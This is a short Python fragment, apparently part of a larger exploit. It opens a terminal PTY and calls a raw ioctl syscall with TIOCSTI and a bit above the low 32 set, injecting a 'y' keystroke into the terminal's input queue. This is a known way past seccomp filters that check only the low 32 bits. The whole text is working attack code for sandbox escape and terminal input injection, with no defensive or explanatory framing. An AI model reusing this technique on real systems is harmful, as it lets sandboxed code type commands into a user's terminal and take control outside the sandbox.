# ioctl TIOCSTI with bits above the low 32 set, into the terminal PTY (after sc)
import ctypes, os
import termios
fd = os.open(PTY, os.O_RDWR | os.O_NOCTTY)
c = ctypes.c_char(b'y')
sc(16, fd, (1 << 32) | termios.TIOCSTI, ctypes.byref(c))
